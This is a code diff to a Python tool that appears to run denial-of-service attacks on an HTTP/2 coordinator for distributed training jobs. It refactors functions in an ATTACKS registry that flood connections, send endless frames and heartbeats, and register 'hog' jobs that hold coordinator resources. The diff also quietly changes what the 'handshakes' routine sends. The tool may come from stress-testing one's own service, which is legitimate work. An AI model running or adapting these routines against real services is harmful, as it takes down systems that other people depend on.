@@ -115,15 +115,24 @@ def joined(job: str) -> bytes:
     return framed(message({3: message({1: group, 2: message(trainer)})}))
 
 
-def flood(target: Target, parts: Iterator[bytes]) -> None:
-    """Sends all of it on one connection, or as much as the other side takes."""
+def talk(target: Target, speak: Callable[[ssl.SSLSocket], None]) -> None:
+    """HTTP/2 on one connection, until the other side has enough of it."""
     with (
         contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError),
         target.connect() as connection,
     ):
         connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+        speak(connection)
+
+
+def flood(target: Target, parts: Iterator[bytes]) -> None:
+    """Sends all of it on one connection, or as much as the other side takes."""
+
+    def speak(connection: ssl.SSLSocket) -> None:
         for part in parts:
             connection.sendall(part)
+
+    talk(target, speak)
 
 
 def in_pieces(frames: Iterator[bytes], count: int = 2_000) -> Iterator[bytes]:
@@ -180,11 +189,8 @@ def bombs(target: Target) -> None:
 def endless(target: Target, each: bytes, answers: bool) -> None:
     """The same frame for as long as it is taken; who leaves answers unread is not read from."""
     piece = each * (RECORD // len(each))
-    with (
-        contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError),
-        target.connect() as connection,
-    ):
-        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+
+    def speak(connection: ssl.SSLSocket) -> None:
         while True:
             connection.sendall(piece)
             left = len(piece) if answers else 0
@@ -193,6 +199,8 @@ def endless(target: Target, each: bytes, answers: bool) -> None:
                 if not got:
                     return
                 left -= len(got)
+
+    talk(target, speak)
 
 
 def pings(target: Target) -> None:
@@ -222,16 +230,15 @@ def agent_stream(target: Target) -> bytes:
 
 def messages(target: Target) -> None:
     """An agent's heartbeats without an end, no faster than they are read."""
-    with (
-        contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError),
-        target.connect() as connection,
-    ):
-        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+
+    def speak(connection: ssl.SSLSocket) -> None:
         connection.sendall(agent_stream(target))
         while True:
             connection.sendall(BEATS * beat() + frame(PING, 0, 0, bytes(8)))
             if not connection.recv(1 << 16):
                 return
+
+    talk(target, speak)
 
 
 def hold(connection: ssl.SSLSocket) -> None:
@@ -254,16 +261,15 @@ def hold(connection: ssl.SSLSocket) -> None:
 
 def waiting_jobs(target: Target) -> None:
     """As many jobs as a coordinator serves, each waiting for a rank that never comes."""
-    with (
-        contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError),
-        target.connect() as connection,
-    ):
-        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+
+    def speak(connection: ssl.SSLSocket) -> None:
         connection.sendall(agent_stream(target))
         for number in range(WAITING_JOBS):
             connection.sendall(frame(DATA, 0, 1, joined(f"hog-{number}")))
         say_round()
         hold(connection)
+
+    talk(target, speak)
 
 
 def slow_requests(target: Target) -> None:
@@ -307,12 +313,11 @@ def large_slot(target: Target) -> None:
 
 def handshakes(target: Target) -> None:
     """A connection, and the next one."""
-    with (
-        contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError),
-        target.connect() as connection,
-    ):
-        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+
+    def speak(connection: ssl.SSLSocket) -> None:
         connection.recv(1)
+
+    talk(target, speak)
 
 
 ATTACKS: dict[str, Callable[[Target], None]] = {
